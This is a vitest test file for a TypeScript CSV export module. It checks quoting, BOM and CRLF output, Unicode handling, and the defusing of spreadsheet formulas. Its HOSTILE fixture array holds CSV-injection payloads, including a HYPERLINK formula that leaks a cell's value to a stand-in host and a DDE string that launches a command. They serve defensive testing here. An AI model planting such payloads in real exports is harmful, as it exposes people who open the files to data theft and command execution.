import { describe, expect, it } from 'vitest';
import { csvField, neutralizeFormula, parseCsv, toCsv, UTF8_BOM, wellFormed } from './csv';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  'comma, inside',
  'quote " inside',
  '"quoted at both ends"',
  'line one\nline two',
  'crlf\r\ninside',
  '  leading and trailing space  ',
  '日本語の顧客名、株式会社',
  'emoji 😀 and lone surrogate \uD800 here',
  '',
];

describe('CSV writer', () => {
  it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
    const csv = toCsv({ headers: ['a', 'b'], rows: [['1', 2], [null, 'x']] });
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    expect(csv.slice(1)).toBe('a,b\r\n1,2\r\n,x\r\n');
  });

  it('neutralizes cells a spreadsheet would run as formulas', () => {
    expect(neutralizeFormula('=1+1')).toBe("'=1+1");
    expect(neutralizeFormula('+1')).toBe("'+1");
    expect(neutralizeFormula('-1')).toBe("'-1");
    expect(neutralizeFormula('@x')).toBe("'@x");
    expect(neutralizeFormula('\t=x')).toBe("'\t=x");
    expect(neutralizeFormula('a=1')).toBe('a=1');
    // Numbers are values: a negative remaining time stays a number.
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField(Number.NaN)).toBe('');
  });

  it('quotes fields with commas, quotes and line breaks, doubling quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('x\ny')).toBe('"x\ny"');
    expect(csvField('x\r\ny')).toBe('"x\r\ny"');
    expect(csvField('=a,b')).toBe('"\'=a,b"');
    expect(csvField('plain')).toBe('plain');
  });

  it('round-trips hostile values through an RFC 4180 reader, every formula defused', () => {
    const rows = HOSTILE.map((value, i) => [i, value]);
    const parsed = parseCsv(toCsv({ headers: ['n', 'value'], rows }));
    expect(parsed).toHaveLength(HOSTILE.length + 1);
    expect(parsed[0]).toEqual(['n', 'value']);
    HOSTILE.forEach((value, i) => {
      const [n, cell] = parsed[i + 1]!;
      expect(n).toBe(String(i));
      const expected = wellFormed(value);
      expect(cell).toBe(/^[=+\-@\t\r]/.test(expected) ? `'${expected}` : expected);
      expect(cell).not.toMatch(/^[=+\-@]/);
    });
  });

  it('keeps every record one row in the file even with line breaks inside fields', () => {
    const csv = toCsv({ headers: ['x'], rows: [['a\nb'], ['c']] });
    expect(parseCsv(csv)).toEqual([['x'], ['a\nb'], ['c']]);
  });

  it('replaces lone surrogates, keeps pairs', () => {
    expect(wellFormed('a\uD800b\uDC00c😀')).toBe('a\uFFFDb\uFFFDc😀');
  });

  it('writes Japanese text as is (UTF-8 with BOM)', () => {
    const csv = toCsv({ headers: ['状態'], rows: [['レビュー中']] });
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(csv).toContain('レビュー中');
  });
});
